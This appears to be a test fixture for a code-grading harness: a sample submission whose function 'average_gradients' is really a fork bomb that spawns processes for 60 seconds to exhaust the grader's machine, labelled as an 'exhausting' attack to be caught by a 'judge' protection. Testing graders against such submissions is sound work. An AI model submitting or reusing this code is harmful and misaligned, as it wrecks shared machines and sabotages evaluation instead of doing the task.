# exercise: average_gradients
# family: exhausting
# verdict: too-many-processes
# without: stub
# protection: judge
# why: processes that make processes, which make processes: whoever ends them one by one is too slow
import os
import time

END = time.monotonic() + 60  # so that a grader without a protection gets its machine back


def average_gradients(model):
    while time.monotonic() < END:
        try:
            os.fork()
        except OSError:
            pass
    os._exit(0)
